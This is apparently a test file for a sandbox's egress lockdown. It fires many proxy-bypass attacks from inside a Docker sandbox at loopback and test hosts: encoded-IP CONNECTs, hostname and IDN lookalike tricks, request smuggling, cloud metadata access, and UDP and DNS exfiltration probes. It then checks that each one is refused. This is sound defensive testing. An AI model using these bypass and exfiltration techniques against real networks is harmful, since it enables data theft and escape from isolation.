import { execFileSync } from 'node:child_process';
import dgram from 'node:dgram';
import { mkdtempSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { domainToASCII } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cleanUpInstance,
  hostAddresses,
  loopbackEgress,
  probeResult,
  runBehindProxy,
  startCanary,
  type Canary,
} from './egress-world.js';
import { lifecycleTestImage, makeSampleRepository } from './lifecycle-support.js';

/**
 * Attacks on the internet lockdown from inside a real sandbox (allowlist with method limits),
 * through the real lifecycle. The "outside world" is a server on the host's loopback that the
 * proxy reaches as `allowed.test`; TCP and UDP canaries on every host address, and a UDP canary on
 * the sandbox network's gateway at port 53 (bound once the attempt's network exists), record
 * anything that gets past. Expected for every attack: refused, and the canaries and the server see
 * nothing. A second attempt without method limits attacks the passthrough tunnel. The setup
 * installs curl from the image's mirror (setup has the internet). No packet is addressed outside
 * this machine.
 */

const instance = `egattack-${process.pid}`;
let repo: ReturnType<typeof makeSampleRepository>;
let work: string;
let server: http.Server;
let serverPort = 0;
const requests: string[] = [];
/** Every TCP connection the world's server accepted (a tunnel would open one even without a request). */
let worldConnections = 0;
let canary: Canary;
let udpCanary: dgram.Socket;
let udpPort = 0;
const udpHits: string[] = [];
let image: string;
/** Servers behind the passthrough tunnel: the probes' target, and the control a valid tunnel reaches. */
let tunnelTarget: CountingServer;
/** An HTTP server for the requests that must pass (positive controls), apart from the world's. */
let controlServer: http.Server;
let controlPort = 0;
const controlRequests: string[] = [];
let tunnelControl: CountingServer;

interface CountingServer {
  port: number;
  connections: number;
  close(): void;
}

/** A TCP server on loopback that counts the connections it accepts (and closes them). */
async function countingServer(): Promise<CountingServer> {
  const state = { port: 0, connections: 0, close: () => undefined as void };
  const server = net.createServer((socket) => {
    state.connections += 1;
    socket.on('error', () => undefined);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  state.port = (server.address() as net.AddressInfo).port;
  state.close = () => void server.close();
  return state;
}

const docker = (...args: string[]) => execFileSync('docker', args, { encoding: 'utf8' }).trim();

/**
 * A UDP canary on the attempt's sandbox-network gateway at port 53, the address a sandbox would
 * take for its resolver. The gateway exists only once the lockdown made the network: this waits
 * for the network, binds there, checks the canary with a datagram from the host, then lets the
 * sandbox's command go on (it waits for /tmp/go). Resolves with the datagrams seen since.
 */
async function gatewayDnsCanary(signal: AbortSignal): Promise<{ hits: string[]; close(): void }> {
  let network = '';
  while (network === '') {
    signal.throwIfAborted();
    network =
      docker(
        'network',
        'ls',
        '--format',
        '{{.Name}}',
        '--filter',
        `label=berth.instance=${instance}`,
        '--filter',
        'name=berth-egress-',
      ).split('\n')[0] ?? '';
    if (network === '') await new Promise((r) => setTimeout(r, 100));
  }
  const gateway = docker(
    'network',
    'inspect',
    network,
    '--format',
    '{{range .IPAM.Config}}{{.Gateway}}{{end}}',
  );
  const hits: string[] = [];
  const socket = dgram.createSocket('udp4');
  socket.on('message', (msg, from) => hits.push(`${from.address} ${msg.length}`));
  await new Promise<void>((resolve) => socket.bind(53, gateway, resolve));
  // The canary works: a datagram from the host itself arrives.
  const probe = dgram.createSocket('udp4');
  for (let i = 0; i < 50 && hits.length === 0; i++) {
    probe.send('control', 53, gateway);
    await new Promise((r) => setTimeout(r, 100));
  }
  probe.close();
  expect(hits.length).toBeGreaterThan(0);
  hits.length = 0;
  // The sandbox joined the network once it is listed on it; then its command is told to go on.
  let sandbox = '';
  while (sandbox === '') {
    signal.throwIfAborted();
    sandbox =
      docker(
        'ps',
        '-q',
        '--filter',
        `label=berth.instance=${instance}`,
        '--filter',
        `network=${network}`,
      ).split('\n')[0] ?? '';
    if (sandbox === '') await new Promise((r) => setTimeout(r, 100));
  }
  docker('exec', sandbox, 'touch', '/tmp/go');
  return { hits, close: () => socket.close() };
}

/** The env file of the attacks' environment (one cache entry: the policy is not part of its key). */
function envFile(internet: string): string {
  const file = join(work, 'env.yaml');
  writeFileSync(
    file,
    [
      'name: eg-attacks',
      `repository: ${repo.dir}`,
      'image: minimal',
      `internet: ${internet}`,
      'setup: |',
      '  export DEBIAN_FRONTEND=noninteractive',
      '  apt-get update -qq && apt-get install -y -qq --no-install-recommends curl >/dev/null',
      '',
    ].join('\n'),
  );
  return file;
}

/**
 * A raw client in the sandbox: sends one payload ("\r\n" written as text) and prints the status
 * line back, followed by ` :: ` and the body when the answer has one (the proxy's refusal text).
 */
const RAW_CLIENT = String.raw`
use IO::Socket::INET;
my ($host, $port, $payload) = @ARGV;
$payload =~ s/\\r/\r/g; $payload =~ s/\\n/\n/g;
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Timeout => 5) or do { print "no-connection\n"; exit 0 };
$s->autoflush(1);
print $s $payload;
my ($line, $body) = (undef, '');
eval {
  local $SIG{ALRM} = sub { die "timeout\n" }; alarm 8;
  $line = <$s>;
  if (defined $line) {
    my $length = 0;
    while (my $h = <$s>) { last if $h =~ /^\r?\n$/; $length = $1 if $h =~ /^content-length:\s*(\d+)/i }
    read($s, $body, $length) if $length > 0 && $length < 4096;
  }
  alarm 0;
};
$body =~ s/[\r\n]+/ /g; $body =~ s/\s+$//;
if (defined $line) { $line =~ s/[\r\n]+$//; print $line, ($body ne '' ? " :: $body" : ''), "\n" } else { print "closed\n" }
`;

beforeAll(async () => {
  image = lifecycleTestImage();
  repo = makeSampleRepository();
  work = mkdtempSync(join(tmpdir(), 'berth-egress-attacks-'));
  server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.headers.host} ${req.url}`);
    res.end('reached\n');
  });
  server.on('connection', () => (worldConnections += 1));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  serverPort = (server.address() as net.AddressInfo).port;
  canary = await startCanary();
  udpCanary = dgram.createSocket('udp4');
  udpCanary.on('message', (_msg, from) => udpHits.push(from.address));
  await new Promise<void>((resolve) => udpCanary.bind(0, '0.0.0.0', resolve));
  udpPort = udpCanary.address().port;
  controlServer = http.createServer((req, res) => {
    controlRequests.push(`${req.method} ${req.headers.host} ${req.url}`);
    res.end('control\n');
  });
  await new Promise<void>((resolve) => controlServer.listen(0, '127.0.0.1', resolve));
  controlPort = (controlServer.address() as net.AddressInfo).port;
  tunnelTarget = await countingServer();
  tunnelControl = await countingServer();
});

afterAll(() => {
  server?.close();
  canary?.close();
  udpCanary?.close();
  controlServer?.close();
  tunnelTarget?.close();
  tunnelControl?.close();
  cleanUpInstance(instance, work, repo.dir);
});

/** "allowed.test" with a Cyrillic "а", in the punycode form a client would send. */
const PUNYCODE_LOOKALIKE = domainToASCII('\u0430llowed.test');

/** Every test name resolves to loopback (so only the policy refuses them), `metadata.test` to the metadata address. */
function egressFor(names: readonly string[], ports: readonly number[]) {
  const egress = loopbackEgress(names, ports, []);
  return { ...egress, hosts: { ...egress.hosts, 'metadata.test': '169.254.169.254' } };
}

/** Runs `command` in a sandbox of the environment `file` behind the proxy of egressFor(names, ports). */
function runAttack(
  file: string,
  command: string,
  names: readonly string[],
  ports: readonly number[],
) {
  return runBehindProxy({
    work,
    instance,
    envFile: file,
    command,
    image,
    egress: egressFor(names, ports),
  });
}

/** The agent-phase preamble: the raw client, the proxy's address, and the wait for the DNS canary. */
const PREAMBLE = [
  `cat > /tmp/raw.pl <<'PERL'${RAW_CLIENT}PERL`,
  'proxy=${HTTP_PROXY#http://}; gw=${proxy%:*}; port=${proxy##*:}; echo "proxy=$gw:$port"',
];

describe('attacks on the lockdown from inside a sandbox (docker)', () => {
  it('refuses every attempt to get past the proxy or around it', async () => {
    const file = envFile(
      "{ access: allowlist, domains: [allowed.test, '*.example.test', metadata.test], methods: [GET, HEAD] }",
    );
    const p = serverPort;
    const get = (host: string, port = p) =>
      `GET http://${host}:${port}/ HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\n\\r\\n`;
    const attacks: Array<[string, string]> = [
      ['ip-literal', `CONNECT 127.0.0.1:${p} HTTP/1.1\\r\\nHost: 127.0.0.1:${p}\\r\\n\\r\\n`],
      ['short-ip', `CONNECT 127.1:${p} HTTP/1.1\\r\\nHost: 127.1:${p}\\r\\n\\r\\n`],
      ['decimal-ip', `CONNECT 2130706433:${p} HTTP/1.1\\r\\nHost: 2130706433:${p}\\r\\n\\r\\n`],
      ['hex-ip', `CONNECT 0x7f.1:${p} HTTP/1.1\\r\\nHost: 0x7f.1:${p}\\r\\n\\r\\n`],
      [
        'mapped-ipv6',
        `CONNECT [::ffff:127.0.0.1]:${p} HTTP/1.1\\r\\nHost: [::ffff:127.0.0.1]:${p}\\r\\n\\r\\n`,
      ],
      [
        'userinfo',
        `CONNECT user@allowed.test:${p} HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\n`,
      ],
      ['no-port', `CONNECT allowed.test HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n`],
      ['port-22', `CONNECT allowed.test:22 HTTP/1.1\\r\\nHost: allowed.test:22\\r\\n\\r\\n`],
      ['suffix-trick', get('allowed.test.evil.test')],
      ['prefix-trick', get('evil-allowed.test')],
      // Against the `*.example.test` rule: only names strictly below it on a label boundary.
      ['wildcard-prefix', get('evil-example.test')],
      ['wildcard-appended', get('example.test.evil.test')],
      ['wildcard-glued', get('xexample.test')],
      ['wildcard-apex', get('example.test')],
      [
        'host-mismatch',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: denied.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'post',
        `POST http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 1\\r\\n\\r\\nx`,
      ],
      [
        'unknown-method',
        `BREW http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\n`,
      ],
      [
        'get-with-body',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 4\\r\\n\\r\\nbody`,
      ],
      [
        'method-override',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nX-HTTP-Method-Override: DELETE\\r\\n\\r\\n`,
      ],
      [
        'cl-te',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n`,
      ],
      [
        'websocket',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n`,
      ],
      [
        'h2c',
        `GET http://allowed.test:${p}/ HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABkAAQAAP__\\r\\n\\r\\n`,
      ],
      // Refused as an IP literal before any lookup or dial: no packet goes anywhere.
      [
        'metadata',
        `GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n`,
      ],
      // An allowed name that the resolver maps to the metadata address: the guard refuses the
      // answer before anything is dialled (nothing listens there; the reason says why).
      ['metadata-name', get('metadata.test')],
      [
        'empty-label',
        `CONNECT allowed..test:${p} HTTP/1.1\\r\\nHost: allowed..test:${p}\\r\\n\\r\\n`,
      ],
      // "allowed.test" with a Cyrillic "а", raw UTF-8 and punycode: neither is on the allowlist.
      ['idn-lookalike', get('\u0430llowed.test')],
      ['idn-punycode', get(PUNYCODE_LOOKALIKE)],
      [
        'ssh-over-connect',
        `CONNECT allowed.test:${p} HTTP/1.1\\r\\nHost: allowed.test:${p}\\r\\n\\r\\nSSH-2.0-OpenSSH_9.2\\r\\n`,
      ],
    ];
    const targets = ['$gw', ...hostAddresses()];
    const command = [
      ...PREAMBLE,
      // The UDP canary on the gateway's port 53 is bound once the network exists; wait for it.
      'for i in $(seq 1 1200); do [ -e /tmp/go ] && break; sleep 0.1; done',
      'echo "go: $([ -e /tmp/go ] && echo yes || echo no)"',
      ...attacks.map(
        ([name, payload]) =>
          `echo "${name}: $(perl /tmp/raw.pl "$gw" "$port" '${payload}' | head -1 | tr -d '\\r')"`,
      ),
      // Positive controls on another server: a name below the wildcard, and curl through the proxy.
      `echo "wildcard-below: $(perl /tmp/raw.pl "$gw" "$port" '${get('a.example.test', controlPort)}' | head -1)"`,
      `echo "curl-proxied: $(curl -sS --max-time 10 -o /dev/null -w '%{http_code}' http://allowed.test:${controlPort}/curl 2>&1)"`,
      // Around the proxy: without its variables, curl told to bypass it for every host (the direct
      // path to a canary on every host address), direct TCP and UDP to the host.
      `echo "no-proxy-vars: $(env -u HTTP_PROXY -u http_proxy perl -MHTTP::Tiny -e '$r = HTTP::Tiny->new(timeout => 5)->get($ARGV[0]); print $r->{status}' http://denied.test:${p}/)"`,
      `for t in ${targets.join(' ')}; do echo "no-proxy-star $t: $(curl -sS --max-time 5 --noproxy '*' -o /dev/null -w '%{http_code}' http://$t:${canary.port}/ 2>/dev/null; echo " rc=$?")"; done`,
      `echo "direct-gateway: $(perl /tmp/raw.pl "$gw" ${canary.port} 'hello\\r\\n')"`,
      `echo "direct-gateway-dns-tcp: $(perl /tmp/raw.pl "$gw" 53 'hello\\r\\n')"`,
      `perl -MIO::Socket::INET -e 'for my $h (@ARGV) { my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $h, PeerPort => ${udpPort}); print $s "exfil" if $s }' "$gw" 127.0.0.1`,
      // A DNS query for exfil.test to the gateway's port 53, a few times.
      `for i in 1 2 3; do perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0], PeerPort => 53); print $s "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05exfil\\x04test\\x00\\x00\\x01\\x00\\x01" if $s' "$gw"; sleep 0.2; done`,
      `echo "dns-exfil: $(getent hosts exfil-secret.allowed.test || echo unresolved)"`,
      `echo "raw-socket: $(perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) ? print "opened" : print "refused: $!"')"`,
      `echo "capabilities: $(awk '/^CapEff/ { print $2 }' /proc/self/status)"`,
      `echo "ipv6: $(cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null || echo absent) addrs=$(wc -l < /proc/net/if_inet6 2>/dev/null || echo 0)"`,
      `echo "docker-socket: $(ls /var/run/docker.sock /run/docker.sock 2>/dev/null | wc -l)"`,
      `echo "docker-api: $(perl /tmp/raw.pl "$gw" 2375 'GET /version HTTP/1.0\\r\\n\\r\\n')"`,
    ].join('\n');
    const stopWatching = new AbortController();
    const dns = gatewayDnsCanary(stopWatching.signal);
    dns.catch(() => undefined);
    const run = await runAttack(
      file,
      command,
      [
        'allowed.test',
        'denied.test',
        'evil-allowed.test',
        'allowed.test.evil.test',
        'a.example.test',
        'evil-example.test',
        'example.test.evil.test',
        'xexample.test',
        'example.test',
        PUNYCODE_LOOKALIKE,
      ],
      [serverPort, controlPort],
    );
    stopWatching.abort();
    const gatewayDns = await dns;
    expect(run.code, run.stderr).toBe(0);
    const { output } = run;
    expect(output).toMatch(/proxy=\d+\.\d+\.\d+\.\d+:\d+/);
    expect(output).toContain('go: yes');
    for (const [name] of attacks) {
      const line = probeResult(output, name);
      // A refusal: a 4xx/5xx answer from the proxy, or the connection closed on the attacker. A
      // CONNECT to an allowed host is answered 200 before the first bytes are checked; those bytes
      // (SSH, not TLS) end the tunnel before anything is dialled (see worldConnections below).
      const refused =
        name === 'ssh-over-connect'
          ? '(HTTP/1\\.[01] 200|closed)'
          : '(HTTP/1\\.[01] [45]\\d\\d|closed)';
      expect(`${name}: ${line}`).toMatch(new RegExp(`^${name}: ${refused}`));
    }
    const refusal = (host: string, reason: string) =>
      `HTTP/1.1 403 Forbidden :: berth egress: GET ${host}:${p} denied: ${reason}`;
    for (const name of [
      'evil-example.test',
      'example.test.evil.test',
      'xexample.test',
      'example.test',
    ]) {
      expect(output).toContain(refusal(name, `${name} is not on the allowlist`));
      expect(run.stderr).toContain(`egress denied GET ${name}:${p} (no-match)`);
    }
    expect(probeResult(output, 'idn-punycode')).toBe(
      refusal(PUNYCODE_LOOKALIKE, `${PUNYCODE_LOOKALIKE} is not on the allowlist`),
    );
    expect(run.stderr).toContain(`egress denied GET ${PUNYCODE_LOOKALIKE}:${p} (no-match)`);
    expect(probeResult(output, 'metadata-name')).toBe(
      refusal(
        'metadata.test',
        'metadata.test resolves to 169.254.169.254, a refused cloud metadata service address',
      ),
    );
    expect(run.stderr).toContain(
      `egress denied GET metadata.test:${p} (address:169.254.169.254/32)`,
    );
    // The controls pass: the wildcard's rule, and curl itself through the proxy.
    expect(probeResult(output, 'wildcard-below')).toMatch(/^HTTP\/1\.1 200/);
    expect(run.stderr).toContain(
      `egress allowed GET a.example.test:${controlPort} (domain:*.example.test)`,
    );
    expect(probeResult(output, 'curl-proxied')).toBe('200');
    expect(controlRequests).toEqual([
      `GET a.example.test:${controlPort} /`,
      `GET allowed.test:${controlPort} /curl`,
    ]);
    // Around the proxy: without its variables nothing resolves or routes (599: the client's own
    // connection error); curl bypassing the proxy finds no route to any host address (7: could
    // not connect, 28: timed out), and the canary there sees nothing.
    expect(output).toMatch(/^no-proxy-vars: (599|403)$/m);
    const bypass = output.split('\n').filter((l) => l.startsWith('no-proxy-star '));
    expect(bypass).toHaveLength(targets.length);
    for (const line of bypass) expect(line).toMatch(/^no-proxy-star \S+: 000 rc=(7|28)$/);
    expect(output).toMatch(/^direct-gateway: (no-connection|closed)$/m);
    expect(output).toMatch(/^direct-gateway-dns-tcp: (no-connection|closed)$/m);
    expect(output).toContain('dns-exfil: unresolved');
    expect(output).toMatch(/^raw-socket: refused/m);
    // NET_RAW (bit 13) and NET_ADMIN (bit 12) are gone: no raw sockets, no route or iptables changes.
    const caps = BigInt(`0x${/^capabilities: ([0-9a-f]+)$/m.exec(output)?.[1] ?? 'ffffffffff'}`);
    expect(caps & (1n << 12n)).toBe(0n);
    expect(caps & (1n << 13n)).toBe(0n);
    expect(output).toMatch(/^ipv6: (1|absent) addrs=0$/m);
    expect(output).toContain('docker-socket: 0');
    expect(output).toMatch(/^docker-api: (no-connection|closed)$/m);
    // Nothing got through to the world's server or to the canaries.
    expect(requests).toEqual([]);
    expect(worldConnections).toBe(0);
    expect(canary.hits).toEqual([]);
    await new Promise((r) => setTimeout(r, 500));
    gatewayDns.close();
    expect(gatewayDns.hits).toEqual([]);
    expect(udpHits).toEqual([]);
  }, 300_000);

  it('passthrough tunnel (no method limits): only a ClientHello for the CONNECT host is dialled', async () => {
    const file = envFile('{ access: allowlist, domains: [allowed.test, other.test] }');
    const t = tunnelTarget.port;
    const command = [
      ...PREAMBLE,
      `echo "ssh-tunnel: $(perl /tmp/raw.pl "$gw" "$port" 'CONNECT allowed.test:${t} HTTP/1.1\\r\\nHost: allowed.test:${t}\\r\\n\\r\\nSSH-2.0-OpenSSH_9.2\\r\\n' | head -1)"`,
      // openssl sends CONNECT allowed.test:<port>, then a ClientHello with the SNI asked for.
      `tls() { timeout 20 openssl s_client -proxy "$gw:$port" -connect "allowed.test:$1" "\${@:2}" </dev/null >/tmp/tls.out 2>&1; echo "rc=$? certificates=$(grep -c 'BEGIN CERTIFICATE' /tmp/tls.out)"; }`,
      `echo "sni-other-allowed: $(tls ${t} -servername other.test)"`,
      `echo "sni-refused: $(tls ${t} -servername denied.test)"`,
      `echo "no-sni: $(tls ${t} -noservername)"`,
      // The control: a ClientHello naming the CONNECT host is passed on (the server there is not
      // TLS, so the handshake fails after the proxy dialled it).
      `echo "control: $(tls ${tunnelControl.port} -servername allowed.test)"`,
    ].join('\n');
    const run = await runAttack(
      file,
      command,
      ['allowed.test', 'other.test', 'denied.test'],
      [tunnelTarget.port, tunnelControl.port],
    );
    expect(run.code, run.stderr).toBe(0);
    const { output } = run;
    expect(probeResult(output, 'ssh-tunnel')).toMatch(/^(HTTP\/1\.1 200|closed)/);
    for (const name of ['sni-other-allowed', 'sni-refused', 'no-sni'])
      expect(probeResult(output, name)).toMatch(/^rc=[1-9]\d* certificates=0$/);
    const denied = `egress denied CONNECT allowed.test:${t} (tunnel)`;
    expect(run.stderr).toContain(`${denied}: the first bytes are not a TLS handshake`);
    expect(run.stderr).toContain(`${denied}: TLS SNI "other.test" differs from the CONNECT host`);
    expect(run.stderr).toContain(`${denied}: TLS SNI "denied.test" differs from the CONNECT host`);
    expect(run.stderr).toContain(`${denied}: TLS ClientHello without SNI`);
    // Nothing was dialled for the attacks; the control's valid ClientHello was.
    expect(tunnelTarget.connections).toBe(0);
    expect(tunnelControl.connections).toBeGreaterThan(0);
    expect(canary.hits).toEqual([]);
  }, 300_000);
});
